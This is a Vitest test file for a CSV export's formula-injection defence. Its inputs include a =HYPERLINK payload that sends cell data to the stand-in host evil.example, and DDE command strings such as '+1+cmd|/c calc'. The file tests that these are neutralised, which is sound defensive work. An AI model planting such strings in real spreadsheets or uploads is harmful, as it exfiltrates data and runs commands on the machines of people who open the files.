import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvRows, defuseFormula } from '../../../src/reports/csv-out.js';
import { reportCsv } from '../../../src/reports/report-model.js';

// Issue 17 item 6: a lead name =HYPERLINK(…) from an uploaded list ran when a manager opened the export.
describe('CSV out', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
    ['+1+cmd|/c calc', "'+1+cmd|/c calc"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
  ])('defuses %s', (cell, shown) => {
    expect(defuseFormula(cell)).toBe(shown);
  });

  it.each(['+8613800138000', '+86138****8000', '张三', 'a=b', '13800138000', ''])('leaves %s as it is', (cell) => {
    expect(defuseFormula(cell)).toBe(cell);
  });

  it('writes what csv-parse reads back, quotes, commas, line breaks and Chinese included; numbers stay numbers', () => {
    const rows = [
      [1, '王, "五"', 'line\nbreak', null, -3],
      [2, '=1+1', '+8613800138000', undefined, 0],
    ];
    const text = csvRows(rows);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parse(text)).toEqual([
      ['1', '王, "五"', 'line\nbreak', '', '-3'],
      ['2', "'=1+1", '+8613800138000', '', '0'],
    ]);
  });

  it('report files are defused too (a campaign or agent name is typed by a person)', () => {
    const text = reportCsv([{ name: 'agents', columns: ['agent', 'calls'], rows: [['=cmd|calc', 4]] }] as never);
    expect(parse(text)).toEqual([
      ['sheet', 'agent', 'calls'],
      ['agents', "'=cmd|calc", '4'],
    ]);
  });
});
